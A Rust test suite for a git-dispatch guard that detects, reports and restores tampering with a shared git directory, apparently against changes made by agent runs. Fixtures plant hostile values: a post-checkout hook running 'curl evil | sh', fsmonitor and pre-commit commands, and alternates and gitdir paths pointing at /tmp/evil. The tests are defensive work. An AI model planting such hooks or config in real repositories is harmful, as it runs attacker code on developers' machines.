//! Guard tests for the shared git dir: each kind of tampering is reported, restored byte-identical
//! and kept under `<run_dir>/tampered/`; git-dispatch's own worktrees and branches are not reported.

mod guard_support;

use std::fs;
use std::path::PathBuf;

use git_dispatch::guard::{capture, compare, restore, GuardReport};
use guard_support::{dump_git_dir, mode_of, set_mode, write_file, Repo};
use pretty_assertions::assert_eq;

/// Runs `tamper` between two captures of a repository prepared by `setup`, checks the report,
/// restores, and checks the git dir is byte-identical to before. Returns the repo and run dir.
fn tamper_case(setup: impl Fn(&Repo), tamper: impl Fn(&Repo), expected: &[&str]) -> (Repo, PathBuf) {
    let repo = Repo::new();
    setup(&repo);
    let scope = repo.scope();
    let dump_before = dump_git_dir(&repo.git_dir());
    let before = capture(&scope).expect("capture before");
    tamper(&repo);
    let after = capture(&scope).expect("capture after");
    let report = compare(&before, &after);
    let expected_report = GuardReport {
        git_dir_tampered: expected.iter().map(|s| s.to_string()).collect(),
        main_checkout_changed: vec![],
    };
    assert_eq!(report, expected_report);

    let run_dir = repo.tmp.path().join("run");
    restore(&scope, &before, &after, &report, &run_dir).expect("restore");
    assert_eq!(dump_git_dir(&repo.git_dir()), dump_before, "the git dir is back as it was");
    let again = capture(&scope).expect("capture after restore");
    assert_eq!(compare(&before, &again), GuardReport::default());
    (repo, run_dir)
}

fn manifest(run_dir: &std::path::Path) -> Vec<(String, String)> {
    let text = fs::read_to_string(run_dir.join("tampered/MANIFEST.json")).expect("a manifest");
    let entries: Vec<serde_json::Value> = serde_json::from_str(&text).expect("manifest JSON");
    entries
        .iter()
        .map(|e| (e["path"].as_str().expect("path").to_string(), e["kind"].as_str().expect("kind").to_string()))
        .collect()
}

fn kept(run_dir: &std::path::Path, path: &str) -> String {
    fs::read_to_string(run_dir.join("tampered").join(path)).expect("a kept tampered copy")
}

#[test]
fn config_fsmonitor_and_hooks_path() {
    let (_repo, run_dir) = tamper_case(
        |_| {},
        |repo| {
            repo.git(&["config", "core.fsmonitor", "touch /tmp/pwned"]);
            repo.git(&["config", "core.hooksPath", "/tmp/evil-hooks"]);
        },
        &["config"],
    );
    assert!(kept(&run_dir, "config").contains("fsmonitor = touch /tmp/pwned"));
    assert_eq!(manifest(&run_dir), vec![("config".to_string(), "modified".to_string())]);
    let text = fs::read_to_string(run_dir.join("tampered/MANIFEST.json")).expect("a manifest");
    let entries: Vec<serde_json::Value> = serde_json::from_str(&text).expect("manifest JSON");
    let (before, after) = (entries[0]["sha256_before"].as_str(), entries[0]["sha256_after"].as_str());
    assert!(before.is_some_and(|h| h.len() == 64) && after.is_some_and(|h| h.len() == 64) && before != after);
}

#[test]
fn hook_written() {
    let (_repo, run_dir) = tamper_case(
        |_| {},
        |repo| {
            let hook = repo.git_dir().join("hooks/pre-commit");
            write_file(&hook, b"#!/bin/sh\ntouch /tmp/pwned\n");
            set_mode(&hook, 0o755);
        },
        &["hooks/pre-commit"],
    );
    assert_eq!(kept(&run_dir, "hooks/pre-commit"), "#!/bin/sh\ntouch /tmp/pwned\n");
    assert_eq!(mode_of(&run_dir.join("tampered/hooks/pre-commit")), 0o644, "kept copies are never executable");
    assert_eq!(manifest(&run_dir), vec![("hooks/pre-commit".to_string(), "created".to_string())]);
}

#[test]
fn existing_hook_made_executable_and_rewritten() {
    tamper_case(
        |repo| write_file(&repo.git_dir().join("hooks/post-checkout"), b"#!/bin/sh\nexit 0\n"),
        |repo| {
            let hook = repo.git_dir().join("hooks/post-checkout");
            write_file(&hook, b"#!/bin/sh\ncurl evil | sh\n");
            set_mode(&hook, 0o755);
        },
        &["hooks/post-checkout"],
    );
}

#[test]
fn hooks_dir_swapped_for_a_symlink() {
    let (repo, _run_dir) = tamper_case(
        |_| {},
        |repo| {
            let hooks = repo.git_dir().join("hooks");
            fs::remove_dir_all(&hooks).expect("remove hooks");
            std::os::unix::fs::symlink(repo.tmp.path(), &hooks).expect("symlink");
        },
        &[
            "hooks",
            "hooks/applypatch-msg.sample",
            "hooks/commit-msg.sample",
            "hooks/fsmonitor-watchman.sample",
            "hooks/post-update.sample",
            "hooks/pre-applypatch.sample",
            "hooks/pre-commit.sample",
            "hooks/pre-merge-commit.sample",
            "hooks/pre-push.sample",
            "hooks/pre-rebase.sample",
            "hooks/pre-receive.sample",
            "hooks/prepare-commit-msg.sample",
            "hooks/push-to-checkout.sample",
            "hooks/sendemail-validate.sample",
            "hooks/update.sample",
        ],
    );
    assert!(repo.git_dir().join("hooks").is_dir());
}

#[test]
fn info_attributes_written() {
    tamper_case(
        |_| {},
        |repo| write_file(&repo.git_dir().join("info/attributes"), b"* filter=evil\n"),
        &["info/attributes"],
    );
}

#[test]
fn main_branch_moved() {
    let (repo, run_dir) = tamper_case(
        |_| {},
        |repo| {
            repo.git(&["update-ref", "refs/heads/main", "HEAD~1"]);
        },
        &["logs/HEAD", "logs/refs/heads/main", "refs/heads/main"],
    );
    assert_eq!(kept(&run_dir, "refs/heads/main").trim(), repo.rev("HEAD~1"));
}

#[test]
fn branches_and_tags_created_and_deleted() {
    let (_repo, run_dir) = tamper_case(
        |repo| {
            repo.git(&["branch", "feature"]);
            repo.git(&["tag", "v1"]);
        },
        |repo| {
            repo.git(&["branch", "new-branch"]);
            repo.git(&["tag", "-a", "-m", "annotated", "v2"]);
            repo.git(&["branch", "-D", "feature"]);
            repo.git(&["tag", "-d", "v1"]);
        },
        &[
            "logs/refs/heads/feature",
            "logs/refs/heads/new-branch",
            "refs/heads/feature",
            "refs/heads/new-branch",
            "refs/tags/v1",
            "refs/tags/v2",
        ],
    );
    let kinds = manifest(&run_dir);
    let expected = [
        ("logs/refs/heads/feature", "deleted"),
        ("logs/refs/heads/new-branch", "created"),
        ("refs/heads/feature", "deleted"),
        ("refs/heads/new-branch", "created"),
        ("refs/tags/v1", "deleted"),
        ("refs/tags/v2", "created"),
    ];
    assert_eq!(kinds, expected.map(|(p, k)| (p.to_string(), k.to_string())).to_vec());
}

#[test]
fn branch_in_a_new_ref_folder_is_removed_with_its_folder() {
    tamper_case(
        |_| {},
        |repo| repo.git(&["branch", "evil/nested/branch"]).truncate(0),
        &["logs/refs/heads/evil/nested/branch", "refs/heads/evil/nested/branch"],
    );
}

#[test]
fn packed_refs_edited() {
    tamper_case(
        |repo| {
            repo.git(&["pack-refs", "--all"]);
        },
        |repo| {
            let packed = repo.git_dir().join("packed-refs");
            let text = fs::read_to_string(&packed).expect("packed-refs");
            fs::write(&packed, text.replace(&repo.rev("main"), &repo.rev("main~1"))).expect("write packed-refs");
        },
        &["packed-refs"],
    );
}

#[test]
fn packed_only_ref_overridden_by_a_loose_ref() {
    tamper_case(
        |repo| {
            repo.git(&["pack-refs", "--all"]);
            assert!(!repo.git_dir().join("refs/heads/main").exists());
        },
        |repo| write_file(&repo.git_dir().join("refs/heads/main"), format!("{}\n", repo.rev("main~1")).as_bytes()),
        &["refs/heads/main"],
    );
}

#[test]
fn alternates_added() {
    tamper_case(
        |_| {},
        |repo| write_file(&repo.git_dir().join("objects/info/alternates"), b"/tmp/evil/objects\n"),
        &["objects/info/alternates"],
    );
}

#[test]
fn another_worktrees_admin_files_tampered() {
    tamper_case(
        |repo| {
            let other = repo.tmp.path().join("other");
            repo.git(&["worktree", "add", "-q", "-b", "other", other.to_str().expect("utf-8")]);
        },
        |repo| {
            let admin = repo.git_dir().join("worktrees/other");
            write_file(&admin.join("HEAD"), b"ref: refs/heads/main\n");
            write_file(&admin.join("gitdir"), b"/tmp/evil/.git\n");
        },
        &["worktrees/other/HEAD", "worktrees/other/gitdir"],
    );
}

/// An admin dir swapped for a symlink to a folder outside: restoration removes the symlink, puts
/// the admin files back (only those: the rest of the admin dir is not guarded) and never writes
/// through the symlink.
#[test]
fn admin_dir_swapped_for_a_symlink_is_not_written_through() {
    let repo = Repo::new();
    let other = repo.tmp.path().join("other");
    repo.git(&["worktree", "add", "-q", "-b", "other", other.to_str().expect("utf-8")]);
    let admin = repo.git_dir().join("worktrees/other");
    let read = |name: &str| fs::read(admin.join(name)).expect("an admin file");
    let originals: Vec<Vec<u8>> = ["HEAD", "commondir", "gitdir"].iter().map(|n| read(n)).collect();
    let scope = repo.scope();
    let before = capture(&scope).expect("capture before");

    let outside = tempfile::tempdir().expect("a temp dir");
    fs::remove_dir_all(&admin).expect("remove admin dir");
    std::os::unix::fs::symlink(outside.path(), &admin).expect("symlink");
    let after = capture(&scope).expect("capture after");
    let report = compare(&before, &after);
    let expected = [
        "worktrees/other",
        "worktrees/other/HEAD",
        "worktrees/other/commondir",
        "worktrees/other/gitdir",
        "worktrees/other/logs",
        "worktrees/other/logs/HEAD",
    ];
    assert_eq!(report.git_dir_tampered, expected.map(String::from).to_vec());
    restore(&scope, &before, &after, &report, &repo.tmp.path().join("run")).expect("restore");

    assert_eq!(fs::read_dir(outside.path()).expect("read outside").count(), 0, "nothing written outside");
    assert!(fs::symlink_metadata(&admin).expect("admin dir").is_dir());
    let restored: Vec<Vec<u8>> = ["HEAD", "commondir", "gitdir"].iter().map(|n| read(n)).collect();
    assert_eq!(restored, originals);
}

/// The agent re-points its own worktree's admin dir elsewhere: no longer git-dispatch's, so reported.
#[test]
fn own_admin_dir_repointed_is_reported() {
    let (repo, _run_dir) = tamper_case(
        |repo| {
            let dest = repo.own_root().join("run-1");
            repo.git(&["worktree", "add", "-q", "-b", "dispatch/run-1", dest.to_str().expect("utf-8")]);
        },
        |repo| write_file(&repo.git_dir().join("worktrees/run-1/gitdir"), b"/home/user/project/.git\n"),
        &["worktrees/run-1/gitdir"],
    );
    let gitdir = fs::read_to_string(repo.git_dir().join("worktrees/run-1/gitdir")).expect("gitdir");
    assert!(gitdir.starts_with(repo.own_root().to_str().expect("utf-8")));
}

#[test]
fn stale_locks_left_behind() {
    tamper_case(
        |_| {},
        |repo| {
            write_file(&repo.git_dir().join("index.lock"), b"");
            write_file(&repo.git_dir().join("config.lock"), b"[core]\n");
            write_file(&repo.git_dir().join("refs/heads/main.lock"), b"");
        },
        &["config.lock", "index.lock", "refs/heads/main.lock"],
    );
}

#[test]
fn submodule_git_dir_config_tampered() {
    tamper_case(
        |repo| {
            let module = repo.git_dir().join("modules/lib/sub");
            write_file(&module.join("HEAD"), b"ref: refs/heads/main\n");
            write_file(&module.join("config"), b"[core]\n\tbare = false\n");
            write_file(&module.join("objects/pack/keep"), b"");
        },
        |repo| {
            let module = repo.git_dir().join("modules/lib/sub");
            write_file(&module.join("config"), b"[core]\n\tfsmonitor = touch /tmp/pwned\n");
            write_file(&module.join("hooks/post-checkout"), b"#!/bin/sh\n");
        },
        &["modules/lib/sub/config", "modules/lib/sub/hooks/post-checkout"],
    );
}

/// Object stores, logs, the index and other git-dir files outside the guarded list are not reported.
#[test]
fn unguarded_git_dir_files_are_not_reported() {
    let repo = Repo::new();
    let module = repo.git_dir().join("modules/sub");
    write_file(&module.join("HEAD"), b"ref: refs/heads/main\n");
    let scope = repo.scope();
    let before = capture(&scope).expect("capture before");
    write_file(&repo.git_dir().join("objects/pack/extra.keep"), b"");
    write_file(&repo.git_dir().join("logs/refs/heads/dispatch/run-9"), b"the run's own branch\n");
    write_file(&repo.git_dir().join("COMMIT_EDITMSG"), b"message\n");
    write_file(&repo.git_dir().join("description"), b"changed\n");
    write_file(&module.join("objects/pack/x.lock"), b"");
    write_file(&module.join("index"), b"");
    let after = capture(&scope).expect("capture after");
    assert_eq!(compare(&before, &after), GuardReport::default());
}

/// git-dispatch's own runs come and go (admin dirs under its worktrees root, `dispatch/*` branches,
/// loose and packed): an untouched run reports nothing.
#[test]
fn own_worktrees_and_branches_are_not_reported() {
    let repo = Repo::new();
    let own = repo.own_root();
    fs::create_dir_all(&own).expect("own root");
    let add_own = |name: &str| {
        let dest = own.join(name);
        repo.git(&["worktree", "add", "-q", "-b", &format!("dispatch/{name}"), dest.to_str().expect("utf-8")]);
    };
    add_own("run-1");
    repo.git(&["branch", "dispatch/run-0"]);
    repo.git(&["pack-refs", "--all"]);
    let scope = repo.scope();
    let before = capture(&scope).expect("capture before");

    add_own("run-2");
    write_file(&repo.git_dir().join("worktrees/run-2/index.lock"), b"");
    repo.git(&["worktree", "remove", "--force", own.join("run-1").to_str().expect("utf-8")]);
    repo.git(&["branch", "-D", "dispatch/run-1", "dispatch/run-0"]);
    repo.git(&["branch", "dispatch/run-3"]);
    let after = capture(&scope).expect("capture after");
    assert_eq!(compare(&before, &after), GuardReport::default());
}

/// A run that edits packed-refs while a parallel run deletes its own packed branch: the packed
/// entries go back as they were, git-dispatch's current ones are kept.
#[test]
fn packed_refs_restore_keeps_current_own_entries() {
    let repo = Repo::new();
    repo.git(&["branch", "dispatch/parallel"]);
    repo.git(&["branch", "dispatch/gone"]);
    repo.git(&["pack-refs", "--all"]);
    let scope = repo.scope();
    let packed_path = repo.git_dir().join("packed-refs");
    let original = fs::read_to_string(&packed_path).expect("packed-refs");
    let before = capture(&scope).expect("capture before");

    repo.git(&["branch", "-D", "dispatch/gone"]);
    let text = fs::read_to_string(&packed_path).expect("packed-refs");
    let main_line = format!("{} refs/heads/main", repo.rev("main"));
    let moved = text.replace(&main_line, &format!("{} refs/heads/main", repo.rev("main~1")));
    fs::write(&packed_path, moved).expect("write packed-refs");
    let after = capture(&scope).expect("capture after");
    let report = compare(&before, &after);
    assert_eq!(report.git_dir_tampered, vec!["packed-refs".to_string()]);
    restore(&scope, &before, &after, &report, &repo.tmp.path().join("run")).expect("restore");

    let restored = fs::read_to_string(&packed_path).expect("packed-refs");
    let expected: String =
        original.lines().filter(|l| !l.ends_with("dispatch/gone")).map(|l| format!("{l}\n")).collect();
    assert_eq!(restored, expected);
}

/// Only what the report lists is restored (the caller may leave some paths alone).
#[test]
fn restore_follows_the_report() {
    let repo = Repo::new();
    let scope = repo.scope();
    let before = capture(&scope).expect("capture before");
    write_file(&repo.git_dir().join("info/attributes"), b"* filter=evil\n");
    write_file(&repo.git_dir().join("hooks/pre-push"), b"#!/bin/sh\n");
    let after = capture(&scope).expect("capture after");
    let mut report = compare(&before, &after);
    assert_eq!(report.git_dir_tampered, vec!["hooks/pre-push".to_string(), "info/attributes".to_string()]);
    report.git_dir_tampered.retain(|p| p == "hooks/pre-push");
    restore(&scope, &before, &after, &report, &repo.tmp.path().join("run")).expect("restore");
    assert!(!repo.git_dir().join("hooks/pre-push").exists());
    assert!(repo.git_dir().join("info/attributes").exists());
}

/// Git needs `refs/`: a deleted directory of a guarded area is reported and re-created, even when
/// every ref is packed and the directories are empty.
#[test]
fn deleted_ref_folders_are_restored() {
    tamper_case(
        |repo| {
            repo.git(&["pack-refs", "--all"]);
            fs::create_dir_all(repo.git_dir().join("worktrees")).expect("worktrees dir");
        },
        |repo| {
            fs::remove_dir_all(repo.git_dir().join("refs")).expect("remove refs");
            write_file(&repo.git_dir().join("worktrees/stray.lock"), b"");
        },
        &["refs", "refs/heads", "refs/tags", "worktrees/stray.lock"],
    );
}
